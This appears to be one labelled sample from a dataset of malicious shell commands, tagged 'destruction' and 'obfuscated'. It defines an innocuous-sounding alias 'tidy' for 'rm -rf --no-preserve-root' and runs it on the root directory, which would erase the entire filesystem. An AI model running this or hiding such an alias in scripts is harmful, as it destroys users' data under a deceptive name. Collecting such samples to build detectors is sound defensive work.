# description: Defines a harmless-sounding alias for rm -rf --no-preserve-root and calls it on /.
# family: destruction
# obfuscated: yes
shopt -s expand_aliases
alias tidy='rm -rf --no-preserve-root'
tidy /
